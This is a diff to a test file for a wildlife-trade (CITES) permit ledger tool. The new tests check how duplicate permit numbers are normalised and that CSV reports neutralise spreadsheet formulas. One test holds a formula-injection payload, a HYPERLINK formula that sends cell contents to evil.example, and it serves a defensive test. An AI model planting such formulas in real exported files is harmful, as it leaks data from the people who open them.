@@ -92,7 +92,13 @@ describe('cites: keys -> trust list -> permit -> sign -> verify', () => {
     ok('permit', 'sign', '--key', 'keys/CH', 'p300.json', '--out', 'p300.xml')
     expect(cites(dir, 'ledger', 'show', 'CH', '26CH000300', ...L).code).toBe(2) // no ledger yet
     ok('ledger', 'record', 'p300.xml', ...L, '--key', 'keys/CH', ...T)
-    expect(cites(dir, 'ledger', 'record', 'p300.xml', ...L, '--key', 'keys/CH', ...T).err).toContain('PERMIT_ALREADY_ISSUED')
+    expect(cites(dir, 'ledger', 'record', 'p300.xml', ...L, '--key', 'keys/CH', ...T).err).toContain('DUPLICATE_NUMBER')
+    // Issue 16: another spelling of the number is the same number.
+    const p300b = JSON.parse(readFileSync(join(dir, 'p300.json'), 'utf8')) as { number: string }
+    writeFileSync(join(dir, 'p300b.json'), JSON.stringify({ ...p300b, number: '026ch 000300.' }))
+    ok('permit', 'sign', '--key', 'keys/CH', 'p300b.json', '--out', 'p300b.xml')
+    const lookAlike = cites(dir, 'ledger', 'record', 'p300b.xml', ...L, '--key', 'keys/CH', ...T)
+    expect([lookAlike.code, lookAlike.err]).toEqual([1, expect.stringContaining('DUPLICATE_NUMBER')])
     ok('ledger', 'endorse', 'CH', '26CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:40:PCS', '--port', 'CHZRH')
     const over = cites(dir, 'ledger', 'consume', 'CH', '26CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:41:PCS', '--port', 'THBKK')
     expect([over.code, over.err]).toEqual([1, expect.stringContaining('QUANTITY_EXCEEDED')])
@@ -105,6 +111,8 @@ describe('cites: keys -> trust list -> permit -> sign -> verify', () => {
     expect(view.history.map((h) => h.type)).toEqual(['ISSUED', 'EXPORT_ENDORSED', 'CONSUMED'])
     expect(ok('ledger', 'show', 'CH', '26CH000300', ...L, '--xml').out).toBe(readFileSync(join(dir, 'p300.xml'), 'utf8'))
     expect(cites(dir, 'ledger', 'show', 'CH', 'NOPE', ...L).code).toBe(1)
+    expect(JSON.parse(ok('ledger', 'show', 'CH', '26ch-000300', ...L, '--json').out)).toMatchObject({ state: { number: '26CH000300' }, status: 'CONSUMED' })
+    expect(cites(dir, 'ledger', 'consume', 'CH', '２６CH000300', ...L, '--key', 'keys/CH', ...T, '--line', 'A:1:PCS', '--port', 'CNSHA').err).toContain('ALREADY_CONSUMED')
     expect(ok('ledger', 'list', ...L, '--status', 'CONSUMED', '--count').out.trim()).toBe('1')
     expect(JSON.parse(ok('ledger', 'list', ...L, '--species', 'Python regius', '--json').out)).toMatchObject({ items: [{ number: '26CH000300', status: 'CONSUMED' }] })
     const csv = ok('ledger', 'report', ...L, '--year', String(new Date().getUTCFullYear())).out
@@ -113,5 +121,28 @@ describe('cites: keys -> trust list -> permit -> sign -> verify', () => {
     expect(cites(dir, 'ledger', 'verify-log', ...L).code).toBe(2) // needs the trust list
     expect(ok('ledger', 'rebuild', ...L).out).toContain('1 permits from 3 events')
     expect(ok('ledger', 'list', ...L, '--status', 'CONSUMED', '--count').out.trim()).toBe('1')
+  })
+
+  it('ledger report: a species name that is a spreadsheet formula is written as text, to stdout and to --out (issue 16)', () => {
+    const L = ['--db', 'ledger']
+    const T = ['--trust-list', 'tl.xml', '--anchor', 'anchor/cert.pem']
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    const p = JSON.parse(readFileSync(join(dir, 'p300.json'), 'utf8')) as { number: string, lines: Array<{ scientificName: string }> }
+    p.number = '26CH000301'
+    p.lines[0]!.scientificName = evil
+    writeFileSync(join(dir, 'p301.json'), JSON.stringify(p))
+    ok('permit', 'sign', '--key', 'keys/CH', 'p301.json', '--out', 'p301.xml')
+    ok('ledger', 'record', 'p301.xml', ...L, '--key', 'keys/CH', ...T)
+    ok('ledger', 'consume', 'CH', '26CH000301', ...L, '--key', 'keys/CH', ...T, '--line', 'A:5:PCS', '--port', 'THBKK')
+    const year = String(new Date().getUTCFullYear())
+    const neutralised = `"'${evil.replace(/"/g, '""')}"`
+    const out = ok('ledger', 'report', ...L, '--year', year).out
+    ok('ledger', 'report', ...L, '--year', year, '--out', 'report.csv')
+    for (const csv of [out, readFileSync(join(dir, 'report.csv'), 'utf8')]) {
+      const row = csv.split('\n').find((l) => l.includes('26CH000301'))
+      expect(row).toContain(`,${neutralised},LIV,5,PCS,`)
+      // No field of any row starts with a formula character.
+      for (const line of csv.trim().split('\n')) expect(line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([])
+    }
   })
 })
